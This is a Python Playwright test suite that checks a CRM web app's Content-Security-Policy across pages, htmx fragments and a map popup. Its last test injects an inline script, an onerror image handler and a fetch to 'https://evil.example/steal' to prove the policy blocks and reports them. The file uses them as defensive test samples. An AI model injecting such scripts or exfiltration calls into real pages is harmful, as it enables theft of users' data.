"""The Content-Security-Policy in Chromium: every menu page, the detail pages, the kanban move
dialog, htmx fragments and a map popup run without a single policy violation or console error;
the handlers that used to be inline (static/js/behaviors.js) still work; and the watcher is
shown to catch what the policy blocks."""

from __future__ import annotations

import base64
import json
import uuid
from decimal import Decimal

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import login

pytestmark = pytest.mark.e2e

# a 1×1 transparent PNG, served for every map tile (no network in tests; the request must still be
# allowed by img-src, so the tile host is part of what this checks)
TILE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (e) => window.__cspViolation({
  directive: e.effectiveDirective, blocked: e.blockedURI, source: e.sourceFile, line: e.lineNumber,
  sample: e.sample, page: location.pathname }), true);
"""


class Watcher:
    """Policy violations, console errors and uncaught exceptions of every page a test opens."""

    def __init__(self, page):
        self.page = page
        self.violations: list[dict] = []
        self.errors: list[str] = []
        self.tiles: list[str] = []
        self.documents: list[tuple[str, str | None]] = []
        page.expose_function("__cspViolation", lambda v: self.violations.append(v))
        page.add_init_script(REPORT_VIOLATIONS)
        page.on(
            "console",
            lambda m: (
                m.type == "error" and self.errors.append(f"{m.text} ({m.location.get('url')})")
            ),
        )
        page.on("pageerror", lambda exc: self.errors.append(f"uncaught: {exc}"))
        page.on("response", self._response)
        page.route("**/*.tile.openstreetmap.org/**", self._tile)

    def _tile(self, route):
        self.tiles.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=TILE)

    def _response(self, response):
        if response.request.resource_type == "document" or response.request.headers.get(
            "hx-request"
        ):
            self.documents.append((response.url, response.headers.get("content-security-policy")))

    def visit(self, url: str) -> None:
        response = self.page.goto(url)
        assert response.status == 200, (url, response.status)
        self.page.wait_for_load_state("networkidle")

    def assert_clean(self) -> None:
        self.page.wait_for_timeout(200)  # violation reports are queued as tasks
        assert self.violations == [], json.dumps(self.violations, indent=1)
        assert self.errors == []
        assert self.documents, "no page was seen"
        missing = [
            url for url, header in self.documents if not header or "script-src 'self'" not in header
        ]
        assert missing == [], "responses without the policy"


@pytest.fixture
def watch(page):
    return Watcher(page)


@pytest.fixture
def scene(e2e_db):
    """A located customer with a project on a fresh board, and a group of two projects."""
    from crm.models import User
    from tests.builders.mapview import make_located_customer
    from tests.builders.sales import make_group, make_process, make_project

    tag = uuid.uuid4().hex[:6]
    dave = User.objects.get(email="dave@e2e.test")
    customer = make_located_customer(
        48.137,
        11.575,
        name=f"CSP customer {tag}",
        owner=dave,
        city="München",
        postal_code="80331",
        country="DE",
        street="Marienplatz 1",
    )
    process = make_process(name=f"CSP {tag}", order=0)
    project = make_project(
        process=process,
        owner=dave,
        customer=customer,
        title=f"CSP project {tag}",
        volume=Decimal("5000"),
    )
    other = make_project(process=process, owner=dave, customer=customer, title=f"CSP rival {tag}")
    group = make_group(projects=[project, other], name=f"CSP group {tag}")
    return {
        "tag": tag,
        "customer": customer,
        "process": process,
        "project": project,
        "group": group,
    }


def test_every_menu_page_runs_without_a_policy_violation(page, live_server_url, watch):
    login(page, live_server_url, "dave")  # the tenant admin sees every page
    watch.visit(f"{live_server_url}/")
    menu = page.locator("[data-testid=submenu] a, .crm-topbar a.nav-link")
    hrefs = sorted(
        {
            href
            for href in menu.evaluate_all("links => links.map(a => a.getAttribute('href'))")
            if href and href.startswith("/")
        }
    )
    extra = [
        "/sales/projects/",
        "/sales/leads/board/",
        "/customers/new/",
        "/customers/contacts/new/",
        "/customers/import/",
        "/activity/new/",
        "/map/selections/",
        "/map/missing/",
        "/sales/settings/",
        "/admin/",
        "/admin/crm/user/",
        "/admin/crm/user/add/",
        "/admin/sales/process/",
    ]
    assert {"/customers/", "/customers/contacts/", "/activity/", "/map/", "/admin/"} <= set(
        hrefs
    ), hrefs
    for href in dict.fromkeys([*hrefs, *extra]):
        watch.visit(live_server_url + href)
    # htmx swaps: the customer overview's filter bar redraws the table
    watch.visit(f"{live_server_url}/customers/")
    with page.expect_response(lambda r: r.request.headers.get("hx-request") == "true"):
        page.locator("input[name=q]").first.fill("zzz-nothing")
    watch.assert_clean()


def test_detail_pages_the_move_dialog_and_a_map_popup_run_without_a_policy_violation(
    page, live_server_url, watch, scene
):
    tag = scene["tag"]
    login(page, live_server_url, "dave")

    # customer page: the timeline arrives by htmx, the location map draws tiles
    watch.visit(f"{live_server_url}/customers/{scene['customer'].pk}/")
    expect(page.get_by_test_id("timeline")).to_be_visible()
    expect(
        page.get_by_test_id("customer-map")
        .locator(".leaflet-marker-icon, path.leaflet-interactive")
        .first
    ).to_be_visible()
    watch.visit(f"{live_server_url}/sales/projects/{scene['project'].pk}/")
    watch.visit(f"{live_server_url}/sales/groups/{scene['group'].pk}/")

    # the board, its move dialog (an htmx fragment) and a card's quick-log form (another one)
    watch.visit(f"{live_server_url}/sales/projects/board/?process={scene['process'].pk}")
    card = page.locator(f".sales-card[data-title='CSP project {tag}']")
    card.get_by_test_id("card-move").click()
    expect(page.get_by_test_id("move-dialog")).to_be_visible()
    page.get_by_test_id("move-dialog").get_by_role("button", name="Close").click()
    expect(page.get_by_test_id("move-dialog")).to_be_hidden()
    card.get_by_test_id("card-quicklog").click()
    expect(card.get_by_test_id("card-quicklog-form")).to_be_visible()

    # the map with a popup (fetched as JSON, built with textContent)
    watch.visit(f"{live_server_url}/map/?q={tag}")
    page.wait_for_function("() => document.getElementById('crm-map').dataset.total === '1'")
    page.evaluate(
        "document.getElementById('crm-map').__crmMap.setView([48.137, 11.575], 15, "
        "{animate: false})"
    )
    page.wait_for_function("() => document.getElementById('crm-map').dataset.mode === 'points'")
    x, y = page.evaluate("""() => { const box = document.getElementById('crm-map');
        const m = box.__crmMap;
        const r = box.getBoundingClientRect(); const p = m.latLngToContainerPoint([48.137, 11.575]);
        return [r.left + p.x, r.top + p.y]; }""")
    page.mouse.click(x, y)
    expect(page.locator(".leaflet-popup-content .crm-popup-name")).to_have_text(
        f"CSP customer {tag}"
    )

    assert watch.tiles, "the map asked for no tiles: img-src was not exercised"
    watch.assert_clean()


def test_the_handlers_that_left_the_markup_still_work(page, live_server_url, watch, scene):
    """static/js/behaviors.js: the quick-log box makes its card undraggable while focused, and
    dissolving a group asks first (Cancel keeps it)."""
    from sales.models import ProjectGroup

    login(page, live_server_url, "dave")
    watch.visit(f"{live_server_url}/sales/projects/board/?process={scene['process'].pk}")
    card = page.locator(f".sales-card[data-title='CSP project {scene['tag']}']")
    expect(card).to_have_attribute("draggable", "true")
    card.get_by_test_id("card-quicklog").click()
    card.get_by_test_id("card-quicklog-form").locator("textarea, input[type=text]").first.focus()
    expect(card).to_have_attribute("draggable", "false")
    page.get_by_role("heading").first.click()  # focus leaves the box
    page.locator("body").focus()
    page.evaluate("document.activeElement && document.activeElement.blur()")
    expect(card).to_have_attribute("draggable", "true")

    watch.visit(f"{live_server_url}/sales/groups/{scene['group'].pk}/")
    page.get_by_role("button", name="Dissolve").click()  # the test page dismisses dialogs: Cancel
    assert page.dialogs == ["Dissolve this group? Its projects stay."]
    assert ProjectGroup.objects.filter(pk=scene["group"].pk).exists()
    page.evaluate("window.confirm = () => true")  # now say OK
    page.get_by_role("button", name="Dissolve").click()
    page.wait_for_url("**/sales/groups/")
    assert not ProjectGroup.objects.filter(pk=scene["group"].pk).exists()
    watch.assert_clean()


def test_the_watcher_sees_what_the_policy_blocks(page, live_server_url, watch):
    """Without this, "no violations" could mean nothing was watched: an injected inline script,
    an inline handler, a foreign image and a foreign fetch are all refused and reported."""
    login(page, live_server_url, "alice")
    watch.visit(f"{live_server_url}/")
    page.evaluate("""() => {
        const s = document.createElement("script"); s.textContent = "window.__ran = true";
          document.body.append(s);
        document.body.insertAdjacentHTML("beforeend",
          '<img src="https://evil.example/x.png" onerror="window.__ran = 2">');
        fetch("https://evil.example/steal").catch(() => {});
    }""")
    page.wait_for_timeout(500)
    assert page.evaluate("window.__ran === undefined")
    directives = sorted({v["directive"] for v in watch.violations})
    assert directives == ["connect-src", "img-src", "script-src-attr", "script-src-elem"], (
        watch.violations
    )
    assert {v["blocked"] for v in watch.violations} >= {"inline", "https://evil.example/x.png"}
